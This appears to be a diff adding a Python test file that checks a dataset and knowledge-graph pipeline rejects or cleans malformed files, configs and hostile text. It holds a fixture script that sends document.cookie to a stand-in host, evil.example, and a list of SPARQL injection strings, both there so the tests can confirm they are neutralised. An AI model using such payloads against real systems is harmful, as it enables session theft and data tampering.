@@ -1,0 +1,261 @@
+"""Bad input battery: every malformed file, row or setting fails with a message naming it, or is skipped and
+counted in the dataset summary. One test per case; the README's Reliability table lists them with the cases
+covered elsewhere (missing dump file: tests/test_data_pipeline.py; SPARQL escaping of hostile strings:
+tests/test_knowledge_sparql.py; mistyped keys on the train.py command line: tests/test_train.py)."""
+
+from __future__ import annotations
+
+import base64
+from pathlib import Path
+
+import pytest
+import torch
+import yaml
+
+from graphctx.config import load_config
+from graphctx.data import DatasetSettings, FilterSettings, SplitSettings, prepare_qa_dataset
+from graphctx.data.instruct import encode_example, get_template
+from graphctx.errors import ConfigError, DataError
+from graphctx.knowledge.settings import KnowledgeSettings
+from graphctx.knowledge.store import LocalKnowledgeGraph
+from graphctx.model import ModelSpec, resolve_source
+
+REPO_ROOT = Path(__file__).resolve().parents[1]
+TINY = REPO_ROOT / "configs" / "tiny.yaml"
+ANSWER = "Run &lt;code&gt;sudo systemctl restart nginx&lt;/code&gt; and check the journal for errors."
+
+
+def row(post_id: int, kind: int, **attributes: object) -> str:
+    """One ``<row .../>`` line of a Stack Exchange Posts.xml (attribute values already XML-escaped)."""
+    return (
+        f'  <row Id="{post_id}" PostTypeId="{kind}" '
+        + " ".join(f'{k}="{v}"' for k, v in attributes.items())
+        + " />\n"
+    )
+
+
+def good_pair(question_id: int, day: str, title: str, body: str = "&lt;p&gt;It hangs.&lt;/p&gt;") -> str:
+    """A question with its accepted answer, both created on ``day``."""
+    return row(
+        question_id,
+        1,
+        AcceptedAnswerId=question_id + 1,
+        CreationDate=f"{day}T00:00:00",
+        Score=1,
+        Title=title,
+        Body=body,
+        Tags="|nginx|",
+    ) + row(question_id + 1, 2, ParentId=question_id, CreationDate=f"{day}T01:00:00", Score=2, Body=ANSWER)
+
+
+BASE_ROWS = (
+    good_pair(10, "2021-01-10", "How do I restart nginx on Ubuntu?")
+    + good_pair(20, "2021-06-10", "Why does apt hang on a lock file?")
+    + good_pair(30, "2021-07-10", "Where are systemd unit files kept?")
+)  # one question per split
+
+
+def write_dump(folder: Path, extra: bytes | str = b"") -> Path:
+    """A Posts.xml with the three good questions plus ``extra`` rows; returns the dump folder."""
+    extra = extra.encode() if isinstance(extra, str) else extra
+    head = '<?xml version="1.0" encoding="utf-8"?>\n<posts>\n' + BASE_ROWS
+    (folder / "Posts.xml").write_bytes(head.encode() + extra + b"</posts>\n")
+    return folder
+
+
+def settings_for(folder: Path, **filters: object) -> DatasetSettings:
+    settings = DatasetSettings(source=str(folder), filters=FilterSettings(**{"max_tokens": None, **filters}))
+    settings.split = SplitSettings(
+        train_start="2021-01-01", train_end="2021-06-01",
+        validation_start="2021-06-01", validation_end="2021-07-01",
+        test_start="2021-07-01", test_end="2021-08-01",
+    )  # fmt: skip
+    return settings
+
+
+def all_ids(qa) -> set[int]:
+    return {identifier for split in qa.values() for identifier in split["id"]}
+
+
+def write_config(tmp_path: Path, edit) -> Path:
+    config = yaml.safe_load(TINY.read_text())
+    edit(config)
+    path = tmp_path / "config.yaml"
+    path.write_text(yaml.safe_dump(config))
+    return path
+
+
+# ---- data files ------------------------------------------------------------------------------------------
+def test_truncated_posts_xml_names_file_and_line_and_caches_nothing(cardano_dir, tmp_path, cache_dir):
+    whole = (cardano_dir / "Posts.xml").read_bytes()
+    (tmp_path / "Posts.xml").write_bytes(whole[: len(whole) // 2])  # a download cut mid-row
+    lines = whole[: len(whole) // 2].count(b"\n") + 1
+    with pytest.raises(DataError, match=r"Posts\.xml: malformed XML at line (\d+)") as error:
+        prepare_qa_dataset(settings_for(tmp_path), cache_dir)
+    assert str(tmp_path / "Posts.xml") in str(error.value)
+    assert int(str(error.value).split("line ")[1].split(",")[0]) in (lines, lines + 1)
+    assert not [p for p in (cache_dir / "datasets").iterdir() if not p.name.startswith(".")]
+
+
+def test_non_utf8_bytes_name_file_line_and_column(tmp_path, cache_dir):
+    latin1 = row(50, 1, CreationDate="2021-01-11T00:00:00", Title="Caf\xe9 wallet sync", Body="x")
+    write_dump(tmp_path, latin1.encode("latin-1"))
+    line = 3 + BASE_ROWS.count("\n")  # declaration, <posts>, the base rows, then this row
+    with pytest.raises(DataError, match=rf"Posts\.xml: malformed XML at line {line}, column \d+: .*encoding"):
+        prepare_qa_dataset(settings_for(tmp_path), cache_dir)
+
+
+def test_rows_without_body_or_title_are_skipped_and_counted(tmp_path, cache_dir):
+    no_body = row(40, 1, AcceptedAnswerId=41, CreationDate="2021-01-12T00:00:00", Title="No body at all here")
+    no_title = row(
+        42, 1, AcceptedAnswerId=41, CreationDate="2021-01-12T00:00:00", Body="&lt;p&gt;x&lt;/p&gt;"
+    )
+    write_dump(tmp_path, no_body + no_title + row(41, 2, ParentId=40, Body=ANSWER))
+    qa, summary = prepare_qa_dataset(settings_for(tmp_path), cache_dir)
+    assert summary["skipped_rows"] == 2
+    assert all_ids(qa) == {10, 20, 30}
+
+
+def test_accepted_answer_id_pointing_nowhere_is_removed_and_counted(tmp_path, cache_dir):
+    dangling = row(
+        60, 1, AcceptedAnswerId=999, CreationDate="2021-01-13T00:00:00",
+        Title="Where did my accepted answer go?", Body="&lt;p&gt;Lost.&lt;/p&gt;",
+    )  # fmt: skip
+    write_dump(tmp_path, dangling)
+    qa, summary = prepare_qa_dataset(settings_for(tmp_path), cache_dir)
+    assert summary["questions"] == 4 and summary["with_accepted_answer"] == 3
+    assert summary["removed_no_accepted_answer"] == 1
+    assert 60 not in all_ids(qa)
+
+
+def test_script_tags_and_huge_inline_images_are_cleaned_away(tmp_path, cache_dir):
+    image = base64.b64encode(bytes(1 << 20)).decode()  # a 1 MiB PNG inlined as a data: URI
+    body = (
+        "&lt;p&gt;My node crashes.&lt;/p&gt;&lt;script&gt;fetch('https://evil.example/?c='+document.cookie)"
+        f"&lt;/script&gt;&lt;img src=&quot;data:image/png;base64,{image}&quot; alt=&quot;node log&quot;&gt;"
+    )
+    write_dump(tmp_path, good_pair(70, "2021-01-14", "Why does my node crash at start?", body))
+    qa, _ = prepare_qa_dataset(settings_for(tmp_path), cache_dir)
+    [question] = [r["question"] for r in qa["train"] if r["id"] == 70]
+    assert "My node crashes." in question and "[image: node log]" in question
+    assert "evil.example" not in question and "document.cookie" not in question
+    assert "base64" not in question and len(question) < 200
+
+
+def test_one_megabyte_answer_is_dropped_as_too_long_or_truncated_to_max_length(
+    tmp_path, cache_dir, llama_tokenizer
+):
+    huge = "&lt;p&gt;" + "Restart the node and wait for it to sync. " * 25_000 + "&lt;/p&gt;"  # ~1 MB
+    extra = row(
+        80, 1, AcceptedAnswerId=81, CreationDate="2021-01-15T00:00:00",
+        Title="How long does a full sync take?", Body="&lt;p&gt;Days?&lt;/p&gt;",
+    ) + row(81, 2, ParentId=80, CreationDate="2021-01-15T01:00:00", Body=huge)  # fmt: skip
+    write_dump(tmp_path, extra)
+    qa, summary = prepare_qa_dataset(settings_for(tmp_path, max_tokens=1024), cache_dir, llama_tokenizer)
+    assert summary["removed_too_long"] == 1 and 80 not in all_ids(qa)
+    # With the length filter off the pair is kept, and training sees at most max_length tokens of it.
+    qa, _ = prepare_qa_dataset(settings_for(tmp_path), cache_dir)
+    [answer] = [r["answer"] for r in qa["train"] if r["id"] == 80]
+    assert len(answer) > 1_000_000
+    example = encode_example(llama_tokenizer, get_template("paper"), "How long?", answer, 256, 64)
+    assert len(example["input_ids"]) == 256
+    assert sum(label != -100 for label in example["labels"]) > 100  # the answer is cut, never dropped
+
+
+def test_empty_question_is_skipped_and_counted(tmp_path, cache_dir):
+    write_dump(tmp_path, good_pair(90, "2021-01-16", " ", "&lt;p&gt; &lt;/p&gt;"))
+    qa, summary = prepare_qa_dataset(settings_for(tmp_path), cache_dir)
+    assert summary["removed_empty_question"] == 1
+    assert 90 not in all_ids(qa) and all(r["question"].strip() for s in qa.values() for r in s)
+
+
+def test_empty_dataset_after_filters_names_the_split_and_the_counts(tmp_path, cache_dir):
+    write_dump(tmp_path)
+    with pytest.raises(DataError, match=r"split 'train' is empty.*removed_short_answer=3"):
+        prepare_qa_dataset(settings_for(tmp_path, min_answer_chars=10_000), cache_dir)
+
+
+# ---- configuration ---------------------------------------------------------------------------------------
+def test_config_value_of_the_wrong_type_names_the_key(tmp_path):
+    path = write_config(tmp_path, lambda c: c["retrieval"].update(top_k="two"))
+    with pytest.raises(ConfigError, match=r"retrieval\.top_k") as error:
+        load_config(path)
+    assert str(path) in str(error.value)
+
+
+def test_config_unknown_key_is_named(tmp_path):
+    path = write_config(tmp_path, lambda c: c["knowledge"].update(backnd="local"))
+    with pytest.raises(ConfigError, match="backnd"):
+        load_config(path)
+
+
+def test_missing_model_path_names_the_setting(tmp_path):
+    with pytest.raises(ConfigError, match=r"model\.spec\.source: .*absent.* does not exist"):
+        resolve_source(ModelSpec(source=str(tmp_path / "absent")))
+    (tmp_path / "not-a-model").mkdir()
+    with pytest.raises(ConfigError, match=r"model\.spec\.source: folder .*not-a-model has no config\.json"):
+        resolve_source(ModelSpec(source=str(tmp_path / "not-a-model")))
+
+
+@pytest.mark.skipif(torch.cuda.is_available(), reason="this machine has a GPU")
+@pytest.mark.parametrize(
+    ("section", "key", "value"),
+    [("trainer", "accelerator", "gpu"), ("retrieval", "device", "cuda"), ("knowledge", "device", "cuda:1")],
+)
+def test_gpu_requested_on_a_cpu_only_machine_names_the_setting(tmp_path, capsys, section, key, value):
+    from train import main as train_main
+
+    path = write_config(tmp_path, lambda c: c[section].update({key: value}))
+    with pytest.raises(ConfigError, match=rf"{section}\.{key}: '{value}' asks for a GPU"):
+        load_config(path)
+    assert train_main(["--config", str(path)]) == 1
+    assert f"{section}.{key}: '{value}' asks for a GPU" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("text", ["- trainer\n- model\n", "just a string\n", ""])
+def test_yaml_that_is_not_a_mapping_is_refused(tmp_path, text):
+    path = tmp_path / "list.yaml"
+    path.write_text(text)
+    with pytest.raises(ConfigError, match=rf"{path}: a config must be a YAML mapping"):
+        load_config(path)
+
+
+def test_yaml_syntax_error_names_the_file(tmp_path):
+    path = tmp_path / "broken.yaml"
+    path.write_text("trainer:\n  max_steps: [1, 2\n")
+    with pytest.raises(ConfigError, match=rf"{path}: not valid YAML"):
+        load_config(path)
+
+
+# ---- knowledge graph -------------------------------------------------------------------------------------
+HOSTILE = [
+    'x" } ; DROP ALL ; #',
+    "x' . ?s ?p ?o } #",
+    "}} UNION { ?s ?p ?o }",
+    "\\u0022) } INSERT DATA { <a> <b> <c> }",
+    "nginx\n} SELECT * WHERE { ?s ?p ?o",
+]
+
+
+def test_hostile_text_reaches_the_local_kg_only_as_a_literal(tmp_path):
+    """End to end through the embedded store: each hostile string matches only a node labelled with exactly
+    that string, nothing is added or removed, and no query fails (escaping itself: test_knowledge_sparql)."""
+    label = "http://www.w3.org/2000/01/rdf-schema#label"
+    kg_file = tmp_path / "kg.nt"
+    lines = [f'<http://example.org/n{i}> <{label}> "{text}"@en .' for i, text in enumerate(["nginx"])]
+    lines.append(
+        f'<http://example.org/evil> <{label}> "{HOSTILE[0].replace(chr(34), chr(92) + chr(34))}"@en .'
+    )
+    kg_file.write_text("\n".join(lines) + "\n")
+    kg = LocalKnowledgeGraph.from_settings(
+        KnowledgeSettings(kg_dir="", ntriples=[str(kg_file)], cache_dir=str(tmp_path / "cache"))
+    )
+    before = len(kg.store)
+    links = kg.link(HOSTILE)
+    linked = [node for nodes in links.values() for node in nodes]
+    assert linked == ["http://example.org/evil"]  # only the node with exactly that label
+    assert kg.one_hop(linked) == [] and len(kg.store) == before
+    for text in HOSTILE:  # as a node id, hostile text is refused, never spliced into a query
+        with pytest.raises(ValueError, match="not a safe absolute IRI"):
+            kg.one_hop([text])
+    assert len(kg.store) == before
